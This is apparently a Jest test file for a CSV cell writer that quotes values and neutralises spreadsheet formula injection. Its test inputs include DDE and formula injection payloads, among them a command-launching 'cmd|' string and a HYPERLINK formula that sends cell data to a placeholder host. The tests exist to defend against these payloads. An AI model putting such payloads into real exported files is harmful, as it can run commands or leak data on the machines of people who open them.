import { csvCell, csvHeader, csvRow } from './csv-cell';

describe('csvCell', () => {
  it('quotes cells holding a comma, a quote, CR or LF, doubling the quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line1\nline2')).toBe('"line1\nline2"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
  });

  it('neutralises a formula behind leading spaces, NBSP or other Unicode white space (issue 14)', () => {
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\u00a0=1+1')).toBe("'\u00a0=1+1");
    expect(csvCell('\u2007\ufeff@SUM(A1)')).toBe("'\u2007\ufeff@SUM(A1)");
    expect(csvCell(' plain')).toBe(' plain');
  });

  it('neutralises strings that start like a formula, in any column', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tindented')).toBe("'\tindented");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('leaves a sign and a space before plain text readable (BGL, Thunderbird) but not before a call or DDE', () => {
    const bgl = '- 1117838570 2005.06.03 R02-M1-N0-C:J12-U11 RAS KERNEL INFO instruction cache parity error corrected';
    expect(csvCell(bgl)).toBe(bgl);
    expect(csvCell('+ 3 retries left')).toBe('+ 3 retries left');
    expect(csvCell('- 1+HYPERLINK("http://x?"&A1)')).toBe(`"'- 1+HYPERLINK(""http://x?""&A1)"`);
    expect(csvCell("- cmd|' /C calc'!A0")).toBe("'- cmd|' /C calc'!A0");
    expect(csvCell('- =1+1')).toBe("'- =1+1");
    expect(csvCell('-1117838570')).toBe("'-1117838570");
  });

  it('writes numbers as plain numbers, negatives included, and empties for null', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('joins lists and writes objects as JSON, neutralised and quoted like any text', () => {
    expect(csvCell(['a', 'b'])).toBe('"a,b"');
    expect(csvCell(['=x'])).toBe("'=x");
    expect(csvCell({ k: 'v' })).toBe('"{""k"":""v""}"');
  });
});

describe('csvHeader', () => {
  it('writes column names as they are and neutralises a name that could be a formula', () => {
    expect(csvHeader(['@timestamp', 'level', 'fields.region', '=cmd|x'])).toBe("@timestamp,level,fields.region,'=cmd|x\r\n");
  });
});

describe('csvRow', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(csvRow(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n');
  });
});
